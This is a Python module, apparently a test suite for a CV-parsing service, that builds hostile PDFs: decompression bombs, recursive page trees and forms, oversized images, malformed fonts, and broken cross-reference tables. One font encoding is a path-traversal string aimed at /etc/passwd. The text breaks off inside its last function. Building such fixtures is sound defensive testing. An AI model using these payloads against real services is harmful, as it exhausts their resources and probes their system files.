"""PDFs made to do harm: each function writes one attack file in memory, object by object, without any library.

`ATTACKS` holds them all by name. Where a file has a sound page beside the attack, the page says `HEAD`.
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Literal

Make = Callable[[], bytes]
Outcome = Literal["cv", "error", "any"]

HEAD = b"BT /F1 20 Tf 50 740 Td (Ada Example) Tj ET BT /F1 10 Tf 50 700 Td (ada@example.org) Tj ET "
HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
BOX = b"/MediaBox [0 0 600 800]"


@dataclass(frozen=True, slots=True)
class Attack:
    """A hostile file: `outcome` says whether it must become a CV, an error, or may become either."""

    name: str
    make: Make
    outcome: Outcome


ATTACKS: dict[str, Attack] = {}


def attack(outcome: Outcome = "any") -> Callable[[Make], Make]:
    def note(make: Make) -> Make:
        ATTACKS[make.__name__] = Attack(make.__name__, make, outcome)
        return make

    return note


class Writer:
    """Writes PDF objects one after the other; objects may be named by number before they are written."""

    def __init__(self, head: bytes = b"%PDF-1.7\n") -> None:
        self.head = head
        self.bodies: dict[int, bytes] = {}
        self.font = self.add(HELVETICA)

    def new(self) -> int:
        """A number for an object that is written later."""
        self.bodies[len(self.bodies) + 1] = b"null"
        return len(self.bodies)

    def add(self, body: bytes) -> int:
        number = self.new()
        self.bodies[number] = body
        return number

    def stream(self, data: bytes, entries: bytes = b"", *, length: bytes | None = None, flate: bool = False) -> int:
        if flate:
            data, entries = zlib.compress(data, 6), entries + b" /Filter /FlateDecode"
        size = b"%d" % len(data) if length is None else length
        return self.add(b"<< /Length %s %s >>\nstream\n%s\nendstream" % (size, entries, data))

    def page(self, contents: int, parent: int, entries: bytes = BOX, resources: bytes = b"") -> int:
        return self.add(
            b"<< /Type /Page /Parent %d 0 R /Contents %d 0 R %s /Resources << /Font << /F1 %d 0 R >> %s >> >>"
            % (parent, contents, entries, self.font, resources)
        )

    def catalogue(self, pages: int, entries: bytes = b"") -> int:
        return self.add(b"<< /Type /Catalog /Pages %d 0 R %s >>" % (pages, entries))

    def body(self) -> tuple[bytes, dict[int, int]]:
        """The objects as bytes, and where each begins."""
        parts, places, at = [self.head], {}, len(self.head)
        for number, body in self.bodies.items():
            part = b"%d 0 obj\n%s\nendobj\n" % (number, body)
            places[number] = at
            parts.append(part)
            at += len(part)
        return b"".join(parts), places

    def close(self, root: int, trailer: bytes = b"") -> bytes:
        """The whole file, with a sound cross-reference table."""
        data, places = self.body()
        rows = b"".join(b"%010d 00000 n \n" % place for place in places.values())
        return (
            data
            + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n"
            % (
                len(places) + 1,
                rows,
                len(places) + 1,
                root,
                trailer,
                len(data),
            )
        )


def refs(numbers: Iterable[int]) -> bytes:
    return b" ".join(b"%d 0 R" % number for number in numbers)


def paged(
    content: bytes = HEAD,
    *,
    page: bytes = BOX,
    resources: bytes = b"",
    root: bytes = b"",
    trailer: bytes = b"",
    extra: Callable[[Writer], dict[bytes, int]] | None = None,
    flate: bool = True,
) -> bytes:
    """One page. `extra` writes more objects and names them: "%(name)s" in the dictionaries stands for a reference."""
    writer = Writer()
    named = {name: b"%d 0 R" % number for name, number in (extra(writer) if extra else {}).items()}

    def filled(entries: bytes) -> bytes:
        for name, reference in named.items():
            entries = entries.replace(b"$" + name, reference)
        return entries

    contents = writer.stream(content, flate=flate)
    pages = writer.new()
    leaf = writer.page(contents, pages, filled(page), filled(resources))
    writer.bodies[pages] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % leaf
    return writer.close(writer.catalogue(pages, filled(root)), filled(trailer))


def tree(build: Callable[[Writer, int], bytes]) -> bytes:
    """A file whose root of the page tree `build` writes; it is given the number of that root."""
    writer = Writer()
    pages = writer.new()
    writer.bodies[pages] = build(writer, pages)
    return writer.close(writer.catalogue(pages))


def head_page(writer: Writer, parent: int) -> int:
    return writer.page(writer.stream(HEAD), parent)


# The page tree


@attack()
def page_tree_that_is_its_own_child() -> bytes:
    return tree(lambda writer, me: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % me)


@attack()
def page_tree_that_leads_back_to_its_root() -> bytes:
    def build(writer: Writer, me: int) -> bytes:
        inner = writer.add(b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 2 >>" % (me, me))
        return b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 3 >>" % (inner, head_page(writer, me))

    return tree(build)


@attack()
def page_tree_of_great_depth() -> bytes:
    def build(writer: Writer, me: int) -> bytes:
        first = len(writer.bodies) + 1
        for number in range(first, first + 100_000):
            writer.add(b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (number - 1, number + 1))
        head_page(writer, first + 99_999)
        last = len(writer.bodies)
        writer.bodies[last - 1], writer.bodies[last] = writer.bodies[last], writer.bodies[last - 1]
        writer.bodies[last - 1] = writer.bodies[last - 1].replace(
            b"/Contents %d " % (last - 1), b"/Contents %d " % last
        )
        return b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % first

    return tree(build)


@attack()
def page_count_that_lies() -> bytes:
    return tree(lambda writer, me: b"<< /Type /Pages /Kids [%d 0 R] /Count 1000000000 >>" % head_page(writer, me))


@attack()
def page_count_below_zero() -> bytes:
    return tree(lambda writer, me: b"<< /Type /Pages /Kids [%d 0 R] /Count -5 >>" % head_page(writer, me))


@attack("error")
def ten_thousand_empty_pages() -> bytes:
    def build(writer: Writer, me: int) -> bytes:
        leaf = b"<< /Type /Page /Parent %d 0 R %s >>" % (me, BOX)
        kids = [writer.add(leaf) for _ in range(10_000)]
        return b"<< /Type /Pages /Kids [%s] /Count 10000 >>" % refs(kids)

    return tree(build)


@attack("error")
def ten_thousand_times_one_page() -> bytes:
    return tree(
        lambda writer, me: b"<< /Type /Pages /Kids [%s] /Count 10000 >>" % refs([head_page(writer, me)] * 10_000)
    )


@attack()
def million_pages_that_are_nothing() -> bytes:
    return tree(lambda writer, me: b"<< /Type /Pages /Kids [%s] /Count 1000000 >>" % (b"null " * 1_000_000))


@attack()
def page_whose_parent_is_itself() -> bytes:
    def build(writer: Writer, me: int) -> bytes:
        leaf = writer.page(writer.stream(HEAD), len(writer.bodies) + 2, b"")
        return b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % leaf

    return tree(build)


@attack()
def kids_that_are_no_list() -> bytes:
    return tree(lambda writer, me: b"<< /Type /Pages /Kids (none) /Count 1 >>")


# Much text


def words(count: int, seed: int = 1) -> bytes:
    """About `count` letters of made-up words."""
    chance = random.Random(seed)
    return b" ".join(
        bytes(chance.choices(b"abcdefghijklmnoprstuvw", k=chance.randint(2, 9))) for _ in range(count // 6)
    )


@attack()
def million_letters_in_one_string() -> bytes:
    return paged(HEAD + b"BT /F1 1 Tf 50 600 Td (%s) Tj ET" % words(1_000_000))


@attack()
def million_letters_in_lines() -> bytes:
    text = words(1_000_000)
    shown = b" ".join(b"(%s) '" % text[at : at + 1000] for at in range(0, len(text), 1000))
    return paged(HEAD + b"BT /F1 0.5 Tf 0.6 TL 50 690 Td %s ET" % shown)


@attack()
def million_letters_in_one_word() -> bytes:
    return paged(HEAD + b"BT /F1 0.001 Tf 50 600 Td (%s) Tj ET" % (b"abcdefghij" * 100_000))


@attack()
def million_strings_in_one_place() -> bytes:
    return paged(HEAD + b"BT /F1 9 Tf %s ET" % (b"1 0 0 1 50 600 Tm (a) Tj " * 1_000_000))


@attack()
def many_different_strings_in_one_place() -> bytes:
    shown = b" ".join(b"1 0 0 1 50 600 Tm (%s) Tj" % word for word in words(600_000).split())
    return paged(HEAD + b"BT /F1 9 Tf %s ET" % shown)


def scattered(count: int, size: float) -> bytes:
    chance = random.Random(2)
    return b" ".join(
        b"1 0 0 1 %.3f %.3f Tm (%c) Tj" % (chance.uniform(0, 600), chance.uniform(0, 800), chance.choice(b"abcdef"))
        for _ in range(count)
    ).join([b"BT /F1 %.2f Tf " % size, b" ET"])


@attack()
def many_strings_everywhere() -> bytes:
    return paged(HEAD + scattered(300_000, 9))


@attack()
def many_tiny_strings_everywhere() -> bytes:
    return paged(HEAD + scattered(100_000, 0.5))


@attack()
def many_strings_in_one_column() -> bytes:
    shown = b" ".join(b"1 0 0 1 50 %.3f Tm (word%d) Tj" % (700 - at * 0.007, at) for at in range(100_000))
    return paged(HEAD + b"BT /F1 0.01 Tf %s ET" % shown)


@attack()
def many_strings_on_one_line() -> bytes:
    shown = b" ".join(b"1 0 0 1 %.4f 600 Tm (w%d) Tj" % (at * 0.006, at) for at in range(100_000))
    return paged(HEAD + b"BT /F1 0.002 Tf %s ET" % shown)


@attack()
def many_single_letters_on_one_line() -> bytes:
    shown = b" ".join(b"1 0 0 1 %.4f 600 Tm (%c) Tj" % (at * 0.006, 97 + at % 26) for at in range(100_000))
    return paged(HEAD + b"BT /F1 0.006 Tf %s ET" % shown)


@attack()
def many_superscripts() -> bytes:
    shown = b" ".join(
        b"/F1 %d Tf 1 0 0 1 %.4f %d Tm (%c) Tj" % (8 - 3 * (at % 2), at * 0.012, 600 + 3 * (at % 2), 97 + at % 26)
        for at in range(50_000)
    )
    return paged(HEAD + b"BT %s ET" % shown)


@attack()
def many_bullets() -> bytes:
    shown = b" ".join(
        b"1 0 0 1 %d %.3f Tm (\\225) Tj 1 0 0 1 %d %.3f Tm (w) Tj"
        % (50 + at % 500, 700 - at * 0.02, 60 + at % 500, 700 - at * 0.02)
        for at in range(30_000)
    )
    return paged(HEAD + b"BT /F1 1 Tf %s ET" % shown)


@attack()
def changes_of_style_at_every_letter() -> bytes:
    shown = b" ".join(
        b"%.3f 0 0 rg /F1 %d Tf (%c) Tj" % (at % 997 / 997, 8 + at % 3, 97 + at % 26) for at in range(200_000)
    )
    return paged(HEAD + b"BT 50 600 Td %s ET" % shown)


# Odd numbers


SIZES = [
    b"1e30",
    b"1000000000000000000000000000000000000000000000",
    b"0",
    b"-12",
    b"0.0000000001",
    b"nan",
    b"NaN",
    b"inf",
    b"--5",
    b"1.2.3",
    b"+-+",
    b".",
]


@attack()
def odd_font_sizes() -> bytes:
    return paged(HEAD + b" ".join(b"BT /F1 %s Tf 50 600 Td (Words of size) Tj ET" % size for size in SIZES))


@attack()
def odd_matrices() -> bytes:
    rows = [b"0 0 0 0 0 0", b"0 0 0 0 50 600", b"1 0 0 0 50 600", b"nan nan nan nan nan nan", b"1 0 0 1 nan 600"]
    rows += [
        b"1 1 1 1 50 600",
        b"%s 0 0 1 50 600" % (b"9" * 60),
        b"1 0 0 1 %s %s" % (b"9" * 60, b"9" * 400),
        b"-1 0 0 -1 50 600",
    ]
    rows += [
        b"1 0 0 1 1e400 0",
        b"99999999999 0 0 99999999999 0 0",
        b"0.0000001 0 0 0.0000001 50 600",
        b"0 1 -1 0 50 600",
    ]
    text = b" ".join(b"BT /F1 9 Tf %s Tm (Words of matrix) Tj ET" % row for row in rows)
    return paged(HEAD + text + b" ".join(b"q %s cm BT /F1 9 Tf 50 500 Td (More) Tj ET Q" % row for row in rows))


@attack("cv")
def letters_far_outside() -> bytes:
    places = [b"100000 100000", b"-99999999 5", b"5 -99999999", b"9999999999 9999999999", b"2147483648 -2147483649"]
    return paged(HEAD + b" ".join(b"BT /F1 9 Tf %s Td (Far away) Tj ET" % place for place in places))


@attack()
def odd_spacing() -> bytes:
    shown = b" ".join(
        b"BT /F1 9 Tf 50 600 Td %s Tc %s Tw %s Tz %s TL %s Ts (Odd words) ' ET" % (size, size, size, size, size)
        for size in SIZES
    )
    return paged(HEAD + shown + b" BT /F1 9 Tf [%s (a) %s (b)] TJ ET" % (b"9" * 50, b"-" + b"9" * 50))


@attack()
def odd_operands() -> bytes:
    return paged(
        HEAD
        + b"Tj Tf Td (a) Td [1 2] Tm << /a 1 >> cm BT /F1 Tf (a) (b) (c) Tj ET Q Q Q ET EMC Do /X Do sh gs re h f "
        * 500
    )


BOXES = [
    b"600 800 0 0",
    b"0 0 0 0",
    b"0 0 1000000000 1000000000",
    b"nan nan nan nan",
    b"(a) (b) (c) (d)",
    b"0 0 600",
    b"",
    b"-5e9 -5 1e3 2",
    b"%s 0 600 800" % (b"9" * 60),
    b"0 0 0.001 0.001",
    b"590 790 600 800",
]


def box_case(box: bytes | None) -> bytes:
    return paged(HEAD, page=b"" if box is None else b"/MediaBox [%s]" % box)


for at, box in enumerate(BOXES):
    ATTACKS[f"media_box_{at}"] = Attack(f"media_box_{at}", lambda box=box: box_case(box), "any")  # type: ignore[misc]


@attack("cv")
def media_box_missing() -> bytes:
    return box_case(None)


@attack("cv")
def rotation_of_45_degrees() -> bytes:
    return paged(HEAD, page=BOX + b" /Rotate 45")


@attack()
def rotation_of_a_billion() -> bytes:
    return paged(HEAD, page=BOX + b" /Rotate 1000000000000000000000000")


@attack()
def user_unit_of_a_billion() -> bytes:
    return paged(HEAD, page=BOX + b" /UserUnit 1000000000 /CropBox [9000 9000 9999 9999]")


# Nesting


@attack()
def nested_arrays_in_content() -> bytes:
    return paged(HEAD + b"[" * 100_000 + b"]" * 100_000 + b" TJ")


@attack()
def nested_dictionaries_in_content() -> bytes:
    return paged(HEAD + b"/T " + b"<< /a " * 100_000 + b"1" + b" >>" * 100_000 + b" BDC EMC")


@attack()
def nested_states() -> bytes:
    return paged(b"q " * 100_000 + HEAD + b"Q " * 100_000)


@attack()
def million_states_left_open() -> bytes:
    return paged(b"q 1 0 0 1 0 0 cm " * 1_000_000 + HEAD)


@attack()
def nested_marks() -> bytes:
    return paged(b"/P << /MCID 1 >> BDC " * 100_000 + HEAD + b"EMC " * 100_000)


@attack()
def nested_parentheses() -> bytes:
    return paged(HEAD + b"BT /F1 9 Tf " + b"(" * 100_000 + b")" * 100_000 + b" Tj ET")


@attack()
def nested_arrays_in_objects() -> bytes:
    return paged(
        extra=lambda w: {b"deep": w.add(b"[" * 100_000 + b"]" * 100_000)},
        root=b"/Deep $deep",
        page=BOX + b"/Annots $deep",
    )


@attack()
def nested_dictionaries_in_objects() -> bytes:
    deep = b"<< /a " * 100_000 + b"1" + b" >>" * 100_000
    return paged(
        extra=lambda w: {b"deep": w.add(deep)}, page=BOX + b"/Annots $deep /Group $deep", trailer=b"/Info $deep"
    )


@attack()
def nested_arrays_in_the_trailer() -> bytes:
    return paged(trailer=b"/ID " + b"[" * 100_000 + b"]" * 100_000)


@attack()
def chain_of_references() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        first = len(writer.bodies) + 1
        for number in range(first, first + 50_000):
            writer.add(b"%d 0 R" % (number + 1))
        writer.add(b"[0 0 600 800]")
        return {b"chain": first}

    return paged(extra=extra, page=b"/MediaBox $chain")


@attack()
def reference_to_itself() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        return {b"me": writer.add(b"%d 0 R" % (len(writer.bodies) + 1))}

    return paged(extra=extra, page=b"/MediaBox $me /Annots $me /Rotate $me", trailer=b"/Info $me")


@attack()
def contents_within_themselves() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        return {b"me": writer.add(b"[%d 0 R %d 0 R]" % (len(writer.bodies) + 1, len(writer.bodies) + 1))}

    return paged(extra=extra, page=BOX + b" /Contents $me")


@attack()
def million_content_streams() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        head = writer.stream(HEAD)
        return {b"all": writer.add(b"[%s]" % refs([head] * 200_000))}

    return paged(b"", extra=extra, page=BOX + b" /Contents $all").replace(b"/Contents 205", b"/Nothing 205")


# Forms


def form(writer: Writer, content: bytes, resources: bytes) -> int:
    return writer.stream(content, b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << %s >>" % resources)


def forms(content: bytes, levels: int) -> bytes:
    """A chain of forms, each of which draws the next by `content`."""

    def extra(writer: Writer) -> dict[bytes, int]:
        fonts = b"/Font << /F1 %d 0 R >>" % writer.font
        inner = form(writer, b"BT /F1 9 Tf 50 600 Td (The innermost) Tj ET", fonts)
        for _ in range(levels):
            inner = form(writer, content, b"/XObject << /X %d 0 R >>" % inner)
        return {b"form": inner}

    return paged(HEAD + b"/X Do", extra=extra, resources=b"/XObject << /X $form >>")


@attack()
def thousand_forms_in_each_other() -> bytes:
    return forms(b"/X Do", 1_000)


@attack()
def hundred_thousand_forms_in_each_other() -> bytes:
    return forms(b"/X Do", 100_000)


@attack()
def billion_laughs_of_forms() -> bytes:
    return forms(b"/X Do /X Do", 30)


@attack()
def wide_laughs_of_forms() -> bytes:
    return forms(b"/X Do " * 1_000, 3)


@attack()
def form_within_itself() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        me = len(writer.bodies) + 1
        return {b"form": form(writer, b"/X Do /X Do", b"/XObject << /X %d 0 R >>" % me)}

    return paged(HEAD + b"/X Do", extra=extra, resources=b"/XObject << /X $form >>")


@attack()
def forms_within_one_another() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        first = len(writer.bodies) + 1
        form(writer, b"/X Do /X Do", b"/XObject << /X %d 0 R >>" % (first + 1))
        return {b"form": form(writer, b"/X Do /X Do", b"/XObject << /X %d 0 R >>" % first) - 1}

    return paged(HEAD + b"/X Do", extra=extra, resources=b"/XObject << /X $form >>")


@attack()
def form_that_inherits_itself() -> bytes:
    """Without resources of its own a form takes the page's, in which it stands itself."""

    def extra(writer: Writer) -> dict[bytes, int]:
        return {b"form": writer.stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 600 800]")}

    return paged(HEAD + b"/X Do", extra=extra, resources=b"/XObject << /X $form >>")


@attack()
def pattern_within_itself() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        me = len(writer.bodies) + 1
        entries = (
            b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001"
        )
        resources = b"/Resources << /Pattern << /P %d 0 R >> >>" % me
        return {b"p": writer.stream(b"/Pattern cs /P scn 0 0 600 800 re f", entries + resources)}

    return paged(HEAD + b"/Pattern cs /P scn 0 0 600 800 re f", extra=extra, resources=b"/Pattern << /P $p >>")


# Pictures


def pictured(entries: bytes, data: bytes = b"\x80" * 64, head: bytes = b"", times: int = 1) -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        return {b"im": writer.stream(data, b"/Type /XObject /Subtype /Image " + entries)}

    return paged(head + b"q 500 0 0 700 40 40 cm /Im Do Q " * times, extra=extra, resources=b"/XObject << /Im $im >>")


GREY = b"/ColorSpace /DeviceGray /BitsPerComponent 8"


@attack("error")
def picture_that_says_it_is_huge() -> bytes:
    return pictured(b"/Width 100000 /Height 100000 " + GREY)


@attack("error")
def picture_that_unpacks_to_a_gigabyte() -> bytes:
    return pictured(b"/Width 32768 /Height 32768 /Filter /FlateDecode " + GREY, zeros(1 << 30))


@attack("error")
def picture_of_odd_size() -> bytes:
    return pictured(b"/Width -5 /Height 2147483647 " + GREY)


@attack("error")
def ten_thousand_pictures() -> bytes:
    return pictured(
        b"/Width 3000 /Height 3000 /Filter /FlateDecode " + GREY, zlib.compress(b"\x80" * 9_000_000), times=10_000
    )


@attack("error")
def picture_on_a_huge_page() -> bytes:
    return pictured(b"/Width 8 /Height 8 " + GREY).replace(BOX, b"/MediaBox [0 0 90000000 9000000]")


@attack()
def picture_masked_by_itself() -> bytes:
    return pictured(b"/Width 8 /Height 8 /SMask 2 0 R /Mask 2 0 R " + GREY)


@attack()
def inline_picture_without_end() -> bytes:
    return paged(HEAD + b"BI /W 100000 /H 100000 /CS /G /BPC 8 ID " + b"\x80" * 100_000)


@attack()
def many_inline_pictures() -> bytes:
    return paged(HEAD + b"BI /W 2 /H 2 /CS /G /BPC 8 ID abcd EI " * 100_000)


# Streams that grow


def zeros(size: int, unit: bytes = b" ") -> bytes:
    """`size` bytes of `unit`s, deflated piece by piece."""
    packer = zlib.compressobj(9)
    piece = unit * ((1 << 20) // len(unit))
    parts = [packer.compress(piece) for _ in range(size // len(piece))]
    return b"".join([*parts, packer.flush()])


def packed(data: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    """A page with a second content stream that unpacks to much more."""

    def extra(writer: Writer) -> dict[bytes, int]:
        head = writer.stream(HEAD)
        return {b"all": writer.add(b"[%d 0 R %d 0 R]" % (head, writer.stream(data, b"/Filter " + filters)))}

    writer = Writer()
    contents = b"%d 0 R" % extra(writer)[b"all"]
    pages = writer.new()
    leaf = writer.add(
        b"<< /Type /Page /Parent %d 0 R %s /Contents %s /Resources << /Font << /F1 %d 0 R >> >> >>"
        % (pages, BOX, contents, writer.font)
    )
    writer.bodies[pages] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % leaf
    return writer.close(writer.catalogue(pages))


@attack()
def content_of_a_gigabyte_of_blanks() -> bytes:
    return packed(zeros(1 << 30))


@attack()
def content_of_a_gigabyte_of_operators() -> bytes:
    return packed(zeros(1 << 30, b"q Q "))


@attack()
def content_of_a_gigabyte_of_text() -> bytes:
    return packed(zeros(1 << 30, b"BT /F1 9 Tf 50 600 Td (Lorem) Tj ET "))


@attack()
def content_packed_three_times() -> bytes:
    return packed(zlib.compress(zlib.compress(zeros(1 << 30))), b"[/FlateDecode /FlateDecode /FlateDecode]")


@attack()
def content_of_runs() -> bytes:
    return packed(zlib.compress(b"\x81 " * 4_000_000), b"[/FlateDecode /RunLengthDecode]")


@attack()
def thousand_filters() -> bytes:
    return packed(zlib.compress(b"q Q"), b"[" + b"/FlateDecode " * 1_000 + b"]")


def with_object_stream(entries: bytes, data: bytes) -> bytes:
    """A file read by a cross-reference stream, one of whose objects stands in the given object stream."""
    writer = Writer()
    pages = writer.new()
    leaf = head_page(writer, pages)
    writer.bodies[pages] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % leaf
    root = writer.catalogue(pages, b"/Names %d 0 R" % (len(writer.bodies) + 3))
    holder = writer.stream(data, b"/Type /ObjStm " + entries)
    body, places = writer.body()
    rows = [b"\x00" * 7, *(b"\x01" + place.to_bytes(4, "big") + b"\x00\x00" for place in places.values())]
    rows.append(b"\x02" + holder.to_bytes(4, "big") + b"\x00\x00")
    rows.append(b"\x01" + len(body).to_bytes(4, "big") + b"\x00\x00")
    head = b"/Type /XRef /Size %d /W [1 4 2] /Root %d 0 R" % (len(rows), root)
    return body + b"%d 0 obj\n<< /Length %d %s >>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        len(rows) - 1,
        7 * len(rows),
        head,
        b"".join(rows),
        len(body),
    )


@attack()
def object_stream_of_a_gigabyte() -> bytes:
    return with_object_stream(b"/N 1 /First 10 /Filter /FlateDecode", zeros(1 << 30))


@attack()
def object_stream_of_a_billion_objects() -> bytes:
    return with_object_stream(b"/N 1000000000 /First 10", b"1 0 2 0 << >>")


@attack()
def object_stream_that_extends_itself() -> bytes:
    return with_object_stream(b"/N 1 /First 4 /Extends 6 0 R", b"7 0 << >>")


# Fonts


def fonted(font: bytes, *, shown: bytes = b"(Words in this font) Tj", objects: Iterable[bytes] = ()) -> bytes:
    """A page with words in `font`; "$1", "$2" … stand for the further `objects`, "$me" for the font."""

    def extra(writer: Writer) -> dict[bytes, int]:
        numbers = [writer.new() for _ in objects]
        me = writer.new()
        names = {b"$%d" % at: b"%d 0 R" % number for at, number in enumerate(numbers, 1)} | {b"$me": b"%d 0 R" % me}
        for number, body in zip([*numbers, me], [*objects, font], strict=True):
            for name, reference in names.items():
                body = body.replace(name, reference)
            writer.bodies[number] = body
        return {b"font": me}

    content = HEAD + b"BT /F2 9 Tf 50 600 Td %s ET" % shown
    return paged(content, extra=extra, resources=b"/ExtGState << /G << /Font [$font 9] >> >>").replace(
        b"/Font << /F1 1 0 R >>", b"/Font << /F1 1 0 R /F2 %d 0 R >>" % (2 + len(list(objects)))
    )


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def type0(cid: bytes, unicode: bytes | None = None, encoding: bytes = b"/Identity-H") -> bytes:
    cid_font = (
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Foo /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> %s >>"
        % cid
    )
    objects = [cid_font] if unicode is None else [cid_font, unicode]
    link = b"" if unicode is None else b"/ToUnicode $2"
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /Foo /Encoding %s /DescendantFonts [$1] %s >>" % (encoding, link)
    return fonted(font, shown=b"<00410042004300440045> Tj", objects=objects)


def cmap(body: bytes) -> bytes:
    return (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def 1 begincodespacerange <0000> <FFFF> endcodespacerange %s endcmap end end"
        % body
    )


@attack()
def unicode_ranges_without_end() -> bytes:
    return type0(b"", stream(cmap(b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange")))


@attack()
def unicode_ranges_again_and_again() -> bytes:
    body = b"100 beginbfrange " + b"<0000> <FFFF> <0041> " * 100 + b"endbfrange "
    return type0(b"", stream(zlib.compress(cmap(body * 500)), b"/Filter /FlateDecode"))


@attack()
def unicode_map_of_a_gigabyte() -> bytes:
    return type0(b"", stream(zeros(1 << 30), b"/Filter /FlateDecode"))


@attack()
def letter_that_stands_for_a_million() -> bytes:
    body = b"1 beginbfchar <0041> <" + b"0061" * 1_000_000 + b"> endbfchar"
    return type0(b"", stream(zlib.compress(cmap(body)), b"/Filter /FlateDecode")).replace(b"<00410042", b"<00410041")


@attack()
def cmap_that_uses_itself() -> bytes:
    return type0(b"", stream(cmap(b"/X usecmap"), b"/Type /CMap /CMapName /X /UseCMap $2"), b"$2")


@attack()
def cmap_by_a_path() -> bytes:
    return type0(b"", encoding=b"/..#2f..#2f..#2f..#2fetc#2fpasswd")


@attack()
def widths_of_a_billion_letters() -> bytes:
    return type0(b"/W [0 1000000000 500]")


@attack()
def widths_of_odd_kinds() -> bytes:
    return type0(b"/W [(a) [null] 5 [/x (y) %s] -1 -5 3] /DW /none /W2 [0 100000000 1 2 3] /DW2 [1]" % (b"9" * 60))


@attack()
def differences_far_away() -> bytes:
    names = b" ".join(b"/g%d" % at for at in range(100_000))
    return fonted(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /X /Encoding << /Differences [1000000000 /a -5 /b (x) %s] >> >>"
        % names
    )


@attack()
def fonts_of_odd_widths() -> bytes:
    return fonted(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /X /FirstChar -1000000000 /LastChar 1000000000 /Widths [%s (a) null] /FontDescriptor << /Ascent nan /Descent %s /FontBBox [0] /MissingWidth (x) >> >>"
        % (b"9" * 400, b"9" * 50)
    )


@attack("cv")
def font_without_anything() -> bytes:
    return fonted(b"<< >>")


@attack()
def font_that_is_a_number() -> bytes:
    return fonted(b"5")


@attack()
def font_that_descends_from_itself() -> bytes:
    return fonted(
        b"<< /Type /Font /Subtype /Type0 /BaseFont /Foo /Encoding $me /ToUnicode $me /DescendantFonts [$me] >>"
    )


@attack()
def type_3_letters_that_draw_themselves() -> bytes:
    font = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [1] /Encoding << /Differences [97 /a] >> /CharProcs << /a $1 >> /Resources << /Font << /F2 $me >> >> >>"
    return fonted(font, shown=b"(aaaa) Tj", objects=[stream(b"1 0 d0 BT /F2 1 Tf (aa) Tj ET")])


@attack()
def type_3_matrix_of_zeros() -> bytes:
    font = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 0 0] /FontMatrix [0 0 0 0 0 0] /FirstChar 97 /LastChar 97 /Widths [0] /Encoding << /Differences [97 /a] >> /CharProcs << /a $1 >> >>"
    return fonted(font, shown=b"(aaaa) Tj", objects=[stream(b"0 0 d0")])


@attack()
def font_file_of_noise() -> bytes:
    noise = random.Random(3).randbytes(50_000)
    return fonted(
        b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor << /FontName /X /FontFile $1 /FontFile2 $1 /FontFile3 $1 >> >>",
        objects=[stream(noise)],
    )


@attack()
def font_file_of_a_gigabyte() -> bytes:
    return fonted(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /X /FontDescriptor << /FontName /X /FontFile $1 >> >>",
        objects=[stream(zeros(1 << 30), b"/Filter /FlateDecode /Length1 1073741824 /Length2 5")],
    )


@attack()
def many_fonts() -> bytes:
    fonts = b" ".join(b"/N%d << /Type /Font /Subtype /Type1 /BaseFont /Font%d >>" % (at, at) for at in range(5_000))
    shown = b" ".join(b"/N%d 9 Tf (w) Tj" % at for at in range(5_000))
    return paged(HEAD + b"BT 50 600 Td %s ET" % shown).replace(b"/Font << /F1", b"/Font << %s /F1" % fonts)


# The cross-reference table


@attack()
def no_trailer() -> bytes:
    data = paged(flate=False)
    return data[: data.index(b"xref\n0")]


@attack()
def cut_in_the_middle() -> bytes:
    data = paged(HEAD * 200, flate=False)
    return data[: len(data) // 2]


@attack()
def table_before_itself() -> bytes:
    data = paged()
    return data.replace(b"/Root", b"/Prev %d /Root" % data.index(b"xref\n0"))


@attack()
def tables_before_each_other() -> bytes:
    data = paged()
    first = data.index(b"xref\n0")
    second = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 9 /Root 5 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    data = data.replace(b"/Root", b"/Prev %010d /Root" % 0)
    data = data.replace(b"/Prev %010d" % 0, b"/Prev %010d" % len(data))
    return data + second % (first, len(data))


@attack()
def long_chain_of_tables() -> bytes:
    data = paged()
